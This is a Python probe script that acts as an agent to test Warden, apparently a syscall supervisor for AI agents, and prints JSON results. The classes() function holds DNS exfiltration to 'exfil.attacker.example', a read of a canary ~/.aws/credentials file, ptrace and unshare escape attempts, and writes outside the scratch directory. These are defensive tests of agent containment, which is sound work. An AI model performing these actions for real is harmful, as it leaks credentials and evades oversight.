"""An agent that does not use Warden's SDK: plain Python making system calls.
Prints one JSON line per thing it tried: {"try": NAME, "ok": bool, "errno": N}.

    syscalls.py classes     one of each supervised class
    syscalls.py race        8 threads running declared and undeclared programs at once
    syscalls.py until-enosys  runs /bin/true every 100 ms until supervision is gone
    syscalls.py flood       2,000 undeclared execs from 4 threads, as fast as it can
    syscalls.py repeat      the same refused ptrace 3,000 times in a loop
"""

import ctypes
import errno
import json
import os
import socket
import subprocess
import sys
import threading
import time

libc = ctypes.CDLL(None, use_errno=True)


def say(name, ok, err=0, **more):
    print(json.dumps(dict({"try": name, "ok": bool(ok), "errno": err}, **more)), flush=True)


def run(argv):
    try:
        subprocess.run(argv, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=10)
        return 0
    except OSError as e:
        return e.errno


def dns_query(name):
    q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00"
    for label in name.split("."):
        q += bytes([len(label)]) + label.encode()
    return q + b"\x00\x00\x01\x00\x01"


def classes():
    e = run(["/bin/true"])
    say("exec_declared", e == 0, e)
    # Declared programs with long arguments (coding agents wrap every command
    # in a long `bash -c` script): they run; the record keeps a 5,000-byte
    # one whole and cuts a 70,000-byte one at the record's 64 KiB, marked.
    e = run(["/bin/true", "x" * 5000])
    e2 = run(["/bin/true", "y" * 70000])
    say("exec_long_argument", e == 0 and e2 == 0, e or e2)
    e = run(["/bin/ls", "/"])
    say("exec_undeclared", e == 0, e)
    # One process retrying the refused program at the same path: each try
    # is an attempt of its own (unlike a PATH search's next directory).
    child = os.fork()
    if child == 0:
        for _ in range(2):
            try:
                os.execv("/bin/ls", ["/bin/ls", "/"])
            except OSError:
                pass
        os._exit(0)
    os.waitpid(child, 0)
    s = socket.socket()
    try:
        s.connect(("192.0.2.1", 80))
        say("connect", True)
    except OSError as ex:
        say("connect", False, ex.errno)
    u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        u.sendto(dns_query("exfil.attacker.example"), ("10.0.0.2", 53))
        say("dns", True)
    except OSError as ex:
        say("dns", False, ex.errno)
    r = libc.unshare(0x10000000)  # CLONE_NEWUSER
    say("unshare", r == 0, ctypes.get_errno())
    r = libc.ptrace(16, 1, 0, 0)  # PTRACE_ATTACH to the init
    say("ptrace", r == 0, ctypes.get_errno())
    # Files: the planted credentials read; writes in the scratch pass
    # unseen, writes elsewhere (absolute, and relative to the working
    # directory) are refused.
    try:
        with open(os.path.expanduser("~/.aws/credentials")) as f:
            say("canary_file", "aws_secret_access_key" in f.read())
    except OSError as ex:
        say("canary_file", False, ex.errno)
    for name, path, where in (("write_scratch", "/tmp/scratch.txt", "/tmp"),
                              ("write_outside", "/etc/warden-probe", "/tmp"),
                              ("write_relative", "probe-relative", "/run")):
        os.chdir(where)
        try:
            with open(path, "w") as f:
                f.write("x")
            say(name, True)
        except OSError as ex:
            say(name, False, ex.errno)
    os.chdir("/tmp")


def race():
    results = []
    lock = threading.Lock()

    def worker(i):
        for k in range(10):
            program = "/bin/true" if (i + k) % 2 == 0 else "/bin/ls"
            e = run([program])
            with lock:
                results.append((program, e))

    threads = [threading.Thread(target=worker, args=(i,)) for i in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    allowed = sum(1 for p, e in results if p == "/bin/true" and e == 0)
    denied = sum(1 for p, e in results if p == "/bin/ls" and e == errno.EPERM)
    say("race", allowed == 40 and denied == 40, 0, allowed=allowed, denied=denied, total=len(results))


def until_enosys():
    deadline = time.time() + 60
    while time.time() < deadline:
        e = run(["/bin/true"])
        say("exec", e == 0, e)
        if e != 0:
            return
        time.sleep(0.1)


def flood():
    counts = {"eperm": 0, "other": 0}
    lock = threading.Lock()

    def worker():
        for _ in range(500):
            try:
                os.posix_spawn("/bin/ls", ["ls"], {})
                e = 0
            except OSError as ex:
                e = ex.errno
            with lock:
                counts["eperm" if e == errno.EPERM else "other"] += 1

    threads = [threading.Thread(target=worker) for _ in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    say("flood", counts["other"] == 0, 0, **counts)


def repeat():
    eperm = 0
    for _ in range(3000):
        if libc.ptrace(16, 1, 0, 0) != 0 and ctypes.get_errno() == errno.EPERM:
            eperm += 1
    say("repeat", eperm == 3000, 0, eperm=eperm)


{"classes": classes, "race": race, "until-enosys": until_enosys, "flood": flood, "repeat": repeat}[sys.argv[1]]()
print(json.dumps({"done": True}), flush=True)
